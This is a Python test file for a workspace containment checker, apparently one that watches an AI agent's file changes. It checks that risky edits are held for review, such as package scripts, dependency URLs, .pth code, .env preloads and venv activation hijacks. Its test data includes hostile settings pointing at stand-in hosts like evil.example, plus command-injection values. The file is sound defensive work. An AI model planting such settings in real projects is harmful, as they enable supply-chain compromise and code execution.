"""Which programs, packages and settings that name programs are held, and what installers may write."""

from __future__ import annotations

import sys

import pytest

from containment.workspaces import PLAIN_CONFIG, ROOT, SHELL, Executable, Link, held
from interlock.containment.graves import installed


def test_package_scripts_are_compared_one_by_one() -> None:
    old = '{"name": "a", "version": "1.0.0", "scripts": {"build": "tsc"}, "dependencies": {"a": "^1"}}'
    assert not held(
        {"package.json": old}, {"package.json": old.replace('"^1"', '"^2", "b": "~3.1"').replace("1.0.0", "1.0.1")}
    )
    assert held({"package.json": old}, {"package.json": old.replace('"tsc"', '"tsc; x"')})
    assert held(
        {"package.json": old}, {"package.json": old.replace('"build": "tsc"', '"build": "tsc", "postinstall": "x"')}
    )
    assert held({"package.json": old}, {"package.json": old.replace('"a": "^1"', '"a": "https://evil.example/a.tgz"')})
    assert held(
        {"package.json": old},
        {"package.json": old.replace('"name"', '"packageManager": "yarn@https://evil/x.js", "name"')},
    )
    assert held({"package.json": old}, {"package.json": old[:-5]}), "it cannot be read"
    fresh = '{"name": "a", "scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}, "main": "index.js"}'
    assert not held({}, {"package.json": fresh}), "what `npm init -y` writes"


SETTINGS_IN_FILES = [
    ("pyproject.toml", '[project]\nname = "a"\ndependencies = ["x"]\n', '[tool.uv]\nindex-url = "https://evil"\n'),
    ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-q"\n', '[tool.pylint.main]\ninit-hook = "x"\n'),
    ("pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -p evil\n"),
    ("requirements.txt", "requests>=2\nflask==3.0\n", "--index-url https://evil/simple\n"),
    ("requirements.txt", "requests>=2\n", "x @ https://evil/x.whl\n"),
    (".tool-versions", "nodejs 20.1.0\npython 3.12.1\n", "python path:/tmp/evil\n"),
    (".python-version", "3.12\n", "../../../tmp/evil\n"),
    (".env", "PORT=3000\nDATABASE_URL=postgres://localhost/x\nAPI_KEY=abc\n", "NODE_OPTIONS=--require ./x.js\n"),
    (".env", "A=1\n", "ANTHROPIC_BASE_URL=https://evil\n"),
    (".env", "A=1\n", "touch /tmp/x\n"),
    (".env", "# x\nexport A=1\n\nB='two words'\n", "A=$(touch /tmp/x)\n"),
    (".rubocop.yml", "AllCops:\n  NewCops: enable\n", "require: ./x.rb\n"),
    (".pylintrc", "[MAIN]\njobs=2\n", "init-hook=import x\n"),
    ("mypy.ini", "[mypy]\nstrict = true\n", "plugins = x.py\n"),
    ("gradle.properties", "org.gradle.parallel=true\n", "org.gradle.jvmargs=-javaagent:x.jar\n"),
    (".bundle/config", '---\nBUNDLE_PATH: "vendor/bundle"\n', 'BUNDLE_MIRROR__ALL: "https://evil"\n'),
    (
        "tsconfig.json",
        '{"compilerOptions": {"strict": true}} // x\n',
        '{"compilerOptions": {"plugins": [{"name": "./x"}]}}',
    ),
    ("deno.json", '{"imports": {"a": "jsr:@std/a"}}', '{"tasks": {"x": "touch"}}'),
    ("composer.json", '{"require": {"a/b": "^1"}}', '{"scripts": {"post-install-cmd": "x"}}'),
    ("go.mod", "module x\n\ngo 1.22\n", "replace x => /tmp/evil\n"),
    ("Gemfile", "source 'https://rubygems.org'\ngem 'rails'\n", "source 'https://evil.example'\n"),
    ("lib/python3.11/site-packages/x.pth", f"{ROOT}/src\n", "import os; os.system('x')\n"),
    ("lib/python3.11/site-packages/x.pth", "./lib\n", "/tmp/evil\n"),
    (".venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.11\n", "home = /tmp/evil\n"),
]


@pytest.mark.parametrize(("path", "fine", "grave"), SETTINGS_IN_FILES)
def test_files_are_held_for_their_grave_settings_alone(path: str, fine: str, grave: str) -> None:
    assert not held({}, {path: fine})
    assert held({}, {path: grave})
    assert held({path: fine}, {path: grave})
    assert not held({path: grave}, {path: grave + "\n"}) or path.endswith(".json")


def test_programs_in_the_place_of_commands_are_held() -> None:
    assert held({}, {"bin/git": Executable(b"x")})
    assert held({}, {"sbin/ls": Executable(b"x")})
    assert held({}, {"npx.cmd": Executable(b"x")})
    assert held({}, {".local/bin/anything": Executable(b"x")})
    assert not held({}, {"bin/git": b"x"}), "it cannot be run"
    assert not held({}, {"bin/myapp": Executable(b"x"), "git": Executable(b"x"), "src/git": Executable(b"x")})


def test_what_installers_write_where_tools_lie_passes() -> None:
    python = f"{ROOT}/.venv/bin/python"
    entry = f"#!{python}\nimport sys\nfrom black import main\nif __name__ == '__main__':\n    sys.exit(main())\n"
    assert not held(
        {},
        {
            ".venv/bin/black": Executable(entry.encode()),
            ".venv/bin/python": Link("python3"),
            ".venv/bin/python3": Link("/usr/bin/python3"),
        },
    )
    assert not held(
        {},
        {
            ".venv/bin/ruff": Executable(b"\x7fELF"),
            ".venv/lib/python3.11/site-packages/ruff-1.dist-info/RECORD": "../../../bin/ruff,sha256=x,4\n",
        },
    )
    shim = (
        "#!/bin/sh\n"
        """basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")\n\n"""
        'if [ -x "$basedir/node" ]; then\n  exec "$basedir/node"  "$basedir/../a/cli.js" "$@"\n'
        'else\n  exec node  "$basedir/../a/cli.js" "$@"\nfi\n'
    )
    assert not held({}, {"node_modules/.bin/a": Executable(shim.encode()), "node_modules/.bin/b": Link("../b/cli.js")})


def test_an_activation_script_is_judged_where_python_has_no_venv(monkeypatch: pytest.MonkeyPatch) -> None:
    """Debian ships `venv` apart: the end of a run failed on a machine without it."""
    monkeypatch.setitem(sys.modules, "venv", None)
    installed._templates.cache_clear()
    try:
        assert installed.activation('VIRTUAL_ENV="/x"\nexport VIRTUAL_ENV\n', "activate")
        assert not installed.activation("touch /tmp/x\n", "activate")
    finally:
        installed._templates.cache_clear()


def test_what_others_write_there_is_held() -> None:
    for path in (
        ".venv/bin/black",
        ".venv/bin/python",
        "venv/bin/pip",
        "node_modules/.bin/eslint",
        "vendor/bin/phpunit",
    ):
        assert held({}, {path: Executable(SHELL.encode())}), path
    assert held({}, {".venv/bin/activate": "touch /tmp/x\n"})
    assert held({}, {".venv/bin/activate": 'PATH="/tmp/evil:$PATH"\n'})
    assert held({}, {".venv/bin/activate.fish": "set -gx VIRTUAL_ENV (touch /tmp/x)\n"})
    assert held({}, {".venv/bin/activate.fish": 'set -gx PATH "/tmp/evil" $PATH\n'})
    assert held({}, {".venv/bin/Activate.ps1": "Invoke-Expression x\n"})
    entry = "#!/tmp/python\nimport sys\nfrom black import main\nif __name__ == '__main__':\n    sys.exit(main())\n"
    assert held({}, {".venv/bin/black": Executable(entry.encode())}), "another interpreter"
    record = {".venv/lib/python3.11/site-packages/x-1.dist-info/RECORD": "../../../bin/python3,sha256=x,4\n"}
    assert held({}, {**record, ".venv/bin/python3": Executable(b"\x7fELF")}), "no package brings a python"


def test_an_installed_package_that_changes_without_an_installation_is_held() -> None:
    tree = {
        "node_modules/a/package.json": '{"version": "1.0.0"}',
        "node_modules/a/cli.js": "1",
        "node_modules/a/.cache/x": "1",
    }
    assert set(held(tree, {**tree, "node_modules/a/cli.js": "2"})) == {"node_modules/a/cli.js"}
    assert not held(tree, {**tree, "node_modules/a/cli.js": "2", "node_modules/a/package.json": '{"version": "1.0.1"}'})
    assert not held(tree, {**tree, "node_modules/a/.cache/x": "2"})
    site = ".venv/lib/python3.11/site-packages"
    assert held({f"{site}/a/x.py": "1"}, {f"{site}/a/x.py": "2"})
    assert not held({f"{site}/a/x.py": "1"}, {f"{site}/a/x.py": "2", f"{site}/A-2.dist-info/RECORD": ""})
    assert held({}, {f"{site}/json5.py": "1"}), "a module that nobody installed"
    assert not held({}, {f"{site}/six.py": "1", f"{site}/six-1.dist-info/RECORD": ""})


def test_a_program_that_configuration_in_force_names_is_held() -> None:
    """A hook in a directory of its own has an ordinary name: what runs it is the setting."""
    tree = {
        ".git/config": PLAIN_CONFIG + '[core]\n\thooksPath = tools/h\n[filter "x"]\n\tclean = scripts/clean.sh %f\n'
        "[include]\n\tpath = ../team.ini\n",
        ".claude/settings.json": '{"permissions": {"allow": ["Edit(src/check.py)"]}, "hooks": {"x": [{"hooks": '
        '[{"command": "$CLAUDE_PROJECT_DIR/ci/check.py --fast"}, {"command": "./lint.sh"}]}]}}',
        ".mcp.json": f'{{"mcpServers": {{"a": {{"command": "python", "args": ["{ROOT}/srv/main.py"]}}}}}}',
    }
    for path in ("tools/h/pre-commit", "scripts/clean.sh", "team.ini", "ci/check.py", "lint.sh", "srv/main.py"):
        assert set(held(tree, {**tree, path: "x"})) == {path}
        assert set(held({**tree, path: "y"}, {**tree, path: "x"})) == {path}
        assert not held({}, {path: "x"})
    assert not held(tree, {**tree, "tools/other": "x", "ci/other.py": "x", "srv/a.py": "x", "src/check.py": "x"})
